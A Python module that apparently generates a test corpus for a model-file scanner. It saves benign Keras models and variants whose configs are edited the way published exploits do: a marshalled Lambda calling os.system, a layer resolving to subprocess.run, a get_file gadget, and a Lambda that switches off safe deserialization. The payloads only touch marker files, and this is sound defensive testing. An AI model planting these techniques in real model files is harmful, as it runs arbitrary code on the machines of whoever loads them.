"""Keras samples: real models saved by Keras 3 (benign) and the same files with edited configs.

Benign models are built and saved by ``keras`` (``KERAS_BACKEND=torch``). Malicious variants
rewrite a real ``.keras`` archive's ``config.json`` or a legacy ``.h5`` file's ``model_config``
the way published exploits do (CVE-2024-3660 Lambda bytecode, CVE-2025-1550 module injection,
CVE-2025-8747 ``get_file`` gadget, CVE-2025-9906 ``enable_unsafe_deserialization``,
CVE-2025-9905 Lambda in legacy HDF5). Lambda code objects are compiled, marshalled and encoded,
never run.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import logging
import marshal
import os
import warnings
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from tests.corpus.sample import CorpusWriter

Json = dict[str, Any]


@contextmanager
def _quiet() -> Iterator[None]:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    # Keras logs a "legacy HDF5" notice through absl for every .h5 it saves: on purpose here.
    absl = logging.getLogger("absl")
    level = absl.level
    absl.setLevel(logging.ERROR)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            yield
    finally:
        absl.setLevel(level)


def _functional() -> Any:
    import keras

    inputs = keras.Input((8,), name="features")
    hidden = keras.layers.Dense(16, activation="relu", name="dense_1")(inputs)
    hidden = keras.layers.Dropout(0.1, name="dropout")(hidden)
    outputs = keras.layers.Dense(2, activation="softmax", name="logits")(hidden)
    return keras.Model(inputs, outputs, name="classifier")


def _benign_models() -> dict[str, Any]:
    import keras

    sequential = keras.Sequential(
        [
            keras.Input((10,)),
            keras.layers.Dense(32, activation="relu"),
            keras.layers.BatchNormalization(),
            keras.layers.Dense(1, activation="sigmoid"),
        ],
        name="mlp",
    )
    image = keras.Input((16, 16, 3))
    x = keras.layers.Conv2D(8, 3, activation="relu")(image)
    x = keras.layers.MaxPooling2D()(x)
    x = keras.layers.Flatten()(x)
    cnn = keras.Model(image, keras.layers.Dense(10)(x), name="cnn")
    tokens = keras.Input((12,), dtype="int32")
    y = keras.layers.Embedding(100, 8)(tokens)
    y = keras.layers.LSTM(16)(y)
    lstm = keras.Model(tokens, keras.layers.Dense(3)(y), name="lstm")
    inner = keras.Sequential([keras.Input((8,)), keras.layers.Dense(8)], name="inner_block")
    outer_in = keras.Input((8,))
    nested = keras.Model(outer_in, keras.layers.Dense(2)(inner(outer_in)), name="nested")
    return {
        "mlp": sequential,
        "cnn": cnn,
        "lstm": lstm,
        "nested": nested,
        "classifier": _functional(),
    }


def _lambda_code(command: str) -> str:
    source = f"lambda x: __import__('os').system({command!r}) or x"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def _layer(class_name: str, name: str, config: Json, inbound: list[Any] | None = None) -> Json:
    layer: Json = {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": name, "trainable": True, **config},
        "registered_name": None,
        "name": name,
        "inbound_nodes": inbound if inbound is not None else [],
    }
    return layer


def _after_dense(config: Json, layer: Json) -> Json:
    edited = copy.deepcopy(config)
    edited["config"]["layers"].insert(2, layer)
    return edited


def _lambda_layer(command: str) -> Json:
    function = {
        "class_name": "__lambda__",
        "config": {"code": _lambda_code(command), "defaults": None, "closure": None},
    }
    return _layer(
        "Lambda", "preprocess", {"function": function, "arguments": {}, "output_shape": None}
    )


def _keras_variants(w: CorpusWriter, config: Json) -> Iterator[tuple[str, str, str, Json]]:
    name = "keras/lambda_bytecode.keras"
    yield (
        name,
        "Lambda layer with marshalled bytecode",
        "CVE-2024-3660",
        _after_dense(config, _lambda_layer(w.touch_command(name))),
    )

    name = "keras/module_injection.keras"
    inbound = [{"args": [["touch", str(w.marker(name))]], "kwargs": {"check": False}}]
    injected = {
        "module": "subprocess",
        "class_name": "run",
        "config": {},
        "registered_name": "run",
        "name": "normalizer",
        "inbound_nodes": inbound,
    }
    yield (
        name,
        "config module/class_name resolving to subprocess.run",
        "CVE-2025-1550",
        _after_dense(config, injected),
    )

    name = "keras/get_file_gadget.keras"
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "function",
    }
    arguments = {
        "origin": w.marker(name).as_uri(),
        "cache_dir": str(w.marker_dir),
        "fname": w.marker(name).name,
    }
    gadget = _layer("Lambda", "fetch", {"function": function, "arguments": arguments})
    yield name, "Lambda calling keras.utils.get_file", "CVE-2025-8747", _after_dense(config, gadget)

    name = "keras/enable_unsafe_deserialization.keras"
    function = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    unlock = _layer("Lambda", "unlock", {"function": function, "arguments": {}})
    edited = _after_dense(_after_dense(config, _lambda_layer(w.touch_command(name))), unlock)
    yield name, "Lambda turning safe mode off, then a bytecode Lambda", "CVE-2025-9906", edited

    name = "keras/nested_lambda.keras"
    wrapped = _lambda_layer(w.touch_command(name))
    wrapper = _layer(
        "TimeDistributed",
        "time_distributed",
        {"layer": {k: wrapped[k] for k in ("module", "class_name", "config", "registered_name")}},
    )
    yield (
        name,
        "bytecode Lambda nested in a TimeDistributed wrapper",
        "CVE-2024-3660",
        _after_dense(config, wrapper),
    )


def _rewrite_keras(archive: bytes, config: Json) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = json.dumps(config).encode() if info.filename == "config.json" else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()


def _legacy_lambda_h5(w: CorpusWriter, model: Any) -> None:
    import h5py

    name = "keras/legacy_lambda.h5"
    model.save(w.path(name))
    with h5py.File(w.path(name), "r+") as handle:
        config = json.loads(handle.attrs["model_config"])
        layer = {
            "class_name": "Lambda",
            "config": {
                "name": "lambda",
                "trainable": True,
                "function": [_lambda_code(w.touch_command(name)), None, None],
                "function_type": "lambda",
                "module": "__main__",
                "output_shape": None,
                "output_shape_type": "raw",
                "arguments": {},
            },
            "name": "lambda",
            "inbound_nodes": [],
        }
        config["config"]["layers"].insert(2, layer)
        handle.attrs["model_config"] = json.dumps(config)
    w.add(
        name,
        None,
        label="malicious",
        family="keras",
        technique="legacy HDF5 model_config with a bytecode Lambda",
        advisory="CVE-2025-9905",
    )


def generate(w: CorpusWriter) -> None:
    """Write benign Keras models and their malicious edits under ``keras/``."""
    if not w.wants("keras"):
        return
    with _quiet():
        models = _benign_models()
        for key, model in models.items():
            name = f"keras/{key}.keras"
            model.save(w.path(name))
            w.add(
                name,
                None,
                label="benign",
                family="keras",
                technique=f"Keras 3 {key} model (.keras)",
            )
        for key in ("mlp", "cnn"):
            name = f"keras/{key}_legacy.h5"
            models[key].save(w.path(name))
            w.add(
                name,
                None,
                label="benign",
                family="keras",
                technique=f"Keras {key} model, legacy HDF5",
            )
        name = "keras/cnn_architecture.json"
        w.add(
            name,
            models["cnn"].to_json().encode(),
            label="benign",
            family="keras",
            technique="model.to_json() architecture",
        )

        base = w.path("keras/classifier.keras").read_bytes()
        with zipfile.ZipFile(io.BytesIO(base)) as archive:
            config = json.loads(archive.read("config.json"))
        for name, technique, advisory, edited in _keras_variants(w, config):
            w.add(
                name,
                _rewrite_keras(base, edited),
                label="malicious",
                family="keras",
                technique=technique,
                advisory=advisory,
            )
        _legacy_lambda_h5(w, _functional())
